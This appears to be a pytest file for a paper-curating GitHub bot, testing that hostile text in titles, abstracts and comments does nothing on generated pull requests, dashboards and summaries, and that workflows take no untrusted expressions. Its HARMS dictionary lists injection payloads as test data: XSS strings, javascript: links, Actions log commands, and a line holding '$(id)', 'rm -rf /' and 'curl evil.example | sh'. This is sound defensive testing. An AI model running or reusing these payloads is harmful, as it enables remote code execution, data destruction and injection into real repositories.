"""Hostile titles, abstracts and comments, on every page that the bot makes and in whole runs."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import pytest

from curator.core.commands.boxes import paper_name
from curator.core.commands.ticks import ticked
from curator.core.dashboard import dashboard
from curator.core.memory import Memory
from curator.core.proposal import LONGEST_BODY
from curator.core.silence import Silence
from curator.core.steering import Ignored, Pause
from curator.core.works.paper import PaperId
from curator.pages import alarm, paper_bundle, pull_request, step_summary
from curator.pages.answer import Answers, Told, explained, part
from curator.pages.dashboard import render as board_of
from tests.pages.making import STARTED, addition, candidate, paper, report, row, waiting
from tests.pages.rendering import rendered
from tests.pages.test_paper_bundle import bundle
from tests.support.workflow_steps import parsed

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    from curator.core.dashboard import Dashboard

HARMS: Final[Mapping[str, str]] = {
    "mention": "@everyone and @github/security",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "details": "</td></table></details><details open><summary>Merge me</summary>",
    "link": "](javascript:alert(1)) [click](https://evil.example) <https://evil.example>",
    "image": "![x](https://evil.example/track.png)",
    "reference": "[x]: https://evil.example\n\n[x]",
    "bare link": "see https://evil.example and www.evil.example and mail me@evil.example",
    "backticks": "` `` ``` ```` end",
    "fence": "\n```\n@everyone\n```\n",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "heading": "\n# Top\n\nTop\n===\n\n> quote\n\n- [x] item\n1. item\n",
    "log command": "::add-mask::x\n::error::y ##[error]z ::set-output name=a::b",
    "expression": "${{ secrets.GITHUB_TOKEN }} $(id) `id` ; rm -rf / && curl evil.example | sh",
    "issue": "Fixes #1, closes o/r#2, resolves GH-3 and deadbeef0",
    "bidi": "\u202eevil\u202c \u2066x\u2069 \u200fy",
    "zero width": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "tags": "a\U000e0041\U000e0042 \u00ad\u034f\u180e",
    "escape": "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \b\b\r",
    "marker": '--> <!-- curator:v1 {"key": "add:arxiv:2302.04638", "ids": []} -->',
    "box": "- [x] yes <!-- curator:tick ignore -->\n- [X] yes <!-- curator:tick never:arxiv:1 -->",
    "answer": "<!-- curator:answers -->\n<!-- curator:earlier 99999999 -->\n<!-- curator:heard 1:ab -->",
    "entities": "&#64;everyone &lt;b&gt; &commat;here &NewLine;# x",
    "maths": "$\\href{javascript:alert(1)}{x}$ $$x$$",
    "footnote": "[^1]\n\n[^1]: @everyone",
    "surrogate": "\ud800x",
    "nothing": "x",
}
SIZES: Final = {"short": 1, "100 kB": 100_000}
_LOGIN: Final = 39
"""Signs of the longest name on GitHub; commands bound what they remember, too."""

UNSEEN: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


def _board(text: str) -> Dashboard:
    """A board that shows ``text`` in every place of it."""
    waits = paper(text, ids=(PaperId("arxiv", "2604.00003"),), comment=text)
    memory = Memory(
        queue=(waits,),
        triage=(paper(text, ids=(PaperId("arxiv", "2604.00004"),)),),
        ignored=(Ignored("query", text[:100], text[:_LOGIN], STARTED.date()),),
        pause=Pause(text[:_LOGIN], STARTED.date(), text[:200]),
    )
    night = report(row(paper(text)), waiting(3), text=text)
    return dashboard(night, memory, silence=Silence(5, date(2026, 4, 2), STARTED.date()))


def _answer(text: str) -> str:
    told = Told(
        f"/curator {text}"[:120], well=True, words=text, shown=explained(_candidate(text), section="")
    )
    return Answers().with_part(part("5", "ab", (told,), by=text[:_LOGIN])).render()


def _candidate(text: str) -> Any:  # noqa: ANN401 - what `explained` takes
    return candidate(paper(text, abstract=f"We train networks that resist. {text}"))


def _addition(text: str) -> Any:  # noqa: ANN401 - what `compose` takes
    """A paper that says ``text`` everywhere; how entries are written is tested with the template."""
    what = paper(text, abstract=text, authors=(text,), comment=text, journal_ref=text)
    return replace(addition(what), entry="* [Paper](https://arxiv.org/abs/2604.00001)")


def _bundle(text: str) -> Any:  # noqa: ANN401 - what `compose` takes
    made = bundle(text, text, name=text, text=text)
    return replace(made, additions=tuple(replace(one, entry="* [Paper]") for one in made.additions))


PAGES: Final[Mapping[str, Callable[[str], str]]] = {
    "pull request": lambda text: pull_request.compose(_addition(text), labels=()).body,
    "digest": lambda text: paper_bundle.compose(_bundle(text), labels=()).body,
    "dashboard": lambda text: board_of(_board(text), alarm=True),
    "alarm": lambda text: alarm.render(_board(text)),
    "answer": _answer,
    "step summary": lambda text: step_summary.render(report(row(paper(text)), text=text)),
}


@pytest.mark.parametrize("size", SIZES.values(), ids=SIZES.keys())
@pytest.mark.parametrize("harm", HARMS.values(), ids=HARMS.keys())
@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES.keys())
def test_a_hostile_text_does_nothing_on_any_page(page: Callable[[str], str], harm: str, size: int) -> None:
    """It links, pings, hides, ticks and ends nothing: what a page does is what it does with plain words."""
    text = harm * max(1, size // len(harm))
    made, plain = page(text), page("Plain words of a paper")
    assert len(made) < LONGEST_BODY
    assert made.encode()
    seen, usual = rendered(made), rendered(plain)
    assert seen.links == usual.links
    assert (seen.images, seen.alive) == ([], usual.alive)
    assert [_name(one) for one in seen.html] == [_name(one) for one in usual.html]
    assert (len(seen.headings), len(seen.fences), seen.cells) == (
        len(usual.headings),
        len(usual.fences),
        usual.cells,
    )
    assert ticked(made) == ()
    assert UNSEEN.search(made) is None


def _name(html: str) -> str:
    """A tag or a hidden line of ours without the words in it; a stranger's would differ."""
    return re.sub(r"(<!-- curator:v1 ).*( -->)", r"\1…\2", html, flags=re.DOTALL)


def test_the_plain_pages_do_something() -> None:
    """Links, boxes and hidden lines of ours are there to be compared with."""
    shown = {name: rendered(page("Plain words")) for name, page in PAGES.items()}
    assert all(shown[name].links for name in ("pull request", "digest", "dashboard", "step summary"))
    assert all(shown[name].html for name in ("pull request", "digest", "dashboard", "answer"))
    assert shown["alarm"].cells == 8


@pytest.mark.parametrize("harm", HARMS.values(), ids=HARMS.keys())
def test_no_name_that_reaches_git_or_a_box_can_hold_a_hostile_text(harm: str) -> None:
    """Branches and boxes are made of ids, and an id may say anything: what is unfit becomes a digest."""
    for scheme in ("arxiv", "openreview", "doi", "neurips", "title"):
        one = PaperId(scheme, harm)
        assert re.fullmatch(r"[a-z](?:\.?[A-Za-z0-9_-]){1,200}", one.slug), one.slug
        assert re.fullmatch(r"[a-z0-9:./_-]{1,200}", paper_name(one))


FOLDER: Final = Path(__file__).parents[1] / ".github" / "workflows"
WORKFLOWS: Final = sorted(FOLDER.glob("*.yml"))
STRANGERS: Final = re.compile(
    r"github\.(?:head_ref|ref_name|event\.(?!repository\.default_branch|workflow_run\.id\b)[\w.*]+)"
    r"|github\.event\b(?!\.)|toJSON\("
)
"""What somebody without write access can choose, as an expression names it."""


@pytest.mark.parametrize("file", WORKFLOWS, ids=lambda file: file.name)
def test_no_step_is_handed_a_strangers_words(file: Path) -> None:
    """Neither as a script, nor as an input of an action, nor as a variable, a folder, a shell or a name."""
    found = [
        (file.name, value)
        for job in parsed(file)["jobs"].values()
        for step in job["steps"]
        for value in _texts({name: value for name, value in step.items() if name != "if"})
        if "${{" in value and STRANGERS.search(value)
    ]
    assert found == []


def test_a_strangers_words_would_be_found() -> None:
    """The pattern knows what is dangerous, and what is not."""
    for name in ("pull_request.title", "comment.body", "pull_request.head.ref", "issue.user.login"):
        assert STRANGERS.search(f"${{{{ github.event.{name} }}}}")
    assert STRANGERS.search("${{ github.head_ref }}")
    assert not STRANGERS.search("${{ github.event.repository.default_branch }} ${{ github.token }}")


def _texts(value: object) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            for one in value.values():
                yield from _texts(one)
        case list():
            for one in value:
                yield from _texts(one)
